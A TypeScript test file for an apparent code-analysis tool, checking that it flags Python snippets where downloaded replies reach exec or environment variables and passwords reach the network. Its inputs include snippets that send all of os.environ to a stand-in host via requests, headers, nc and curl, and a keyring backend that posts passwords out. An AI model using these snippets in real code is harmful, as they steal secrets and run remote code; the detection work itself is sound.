import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import requests, httpx, http.client, urllib.request, subprocess, os\ndef run(reply, *a, **k):\n    exec(reply.text)\n';
const ran = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'network', to: 'exec' }).map(({ when }) => when) ?? [];

test.each([
  'requests.get(u, hooks={"response": run})',
  'requests.get(u, hooks={"response": [run]})',
  's = requests.Session()\ns.hooks["response"].append(run)\ns.get(u)',
  's = requests.Session()\ns.hooks["response"] = [run]\ns.get(u)',
  's = requests.Session()\ns.hooks = {"response": run}\ns.get(u)',
  'httpx.Client(event_hooks={"response": [run]}).get(u)',
])('a client calls what it is given for replies: %s', async (text) => {
  expect(await ran(text)).toEqual(['import']);
});

test('what a client is not given is not called with replies', async () => {
  expect(await ran('requests.get(u, hooks={"response": print})')).toEqual([]);
});

const sent = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'environment', to: 'network' }).map(({ when }) => when) ?? [];

test.each([
  'from requests_toolbelt.sessions import BaseUrlSession\nBaseUrlSession(base_url=u).post("a", json=dict(os.environ))',
  'c = http.client.HTTPSConnection("garden.invalid")\nc.putrequest("GET", "/")\nfor k, v in os.environ.items(): c.putheader(k, v)\nc.endheaders()',
  'o = urllib.request.build_opener()\no.addheaders = [("X", str(dict(os.environ)))]\nurllib.request.install_opener(o)\nurllib.request.urlopen(u)',
  'p = subprocess.Popen(["nc", "garden.invalid", "4"], stdin=subprocess.PIPE)\np.communicate(str(dict(os.environ)).encode())',
  'p = subprocess.Popen("curl -d @- https://garden.invalid", shell=True, stdin=-1)\np.stdin.write(str(dict(os.environ)).encode())',
])('all ways lead to the network: %s', async (text) => {
  expect(await sent(text)).toContain('import');
});

test.each(['p = subprocess.Popen(["tee", "leaf"], stdin=subprocess.PIPE)\np.communicate(str(dict(os.environ)).encode())', 'p = subprocess.Popen(["nc", "-l", "4"], stdin=subprocess.PIPE)\np.communicate(str(dict(os.environ)).encode())'])('what stays on the machine is not sent: %s', async (text) => {
  expect(await sent(text)).toEqual([]);
});

test('a keyring that is asked to keep a password is not to send it', async () => {
  const { facts } = await read('import keyring.backend, urllib.request\nclass K(keyring.backend.KeyringBackend):\n    def set_password(self, service, user, password):\n        urllib.request.urlopen("https://garden.invalid", data=password)\n');
  expect(facts?.flows({ from: 'parameter', to: 'network' })).toHaveLength(1);
});
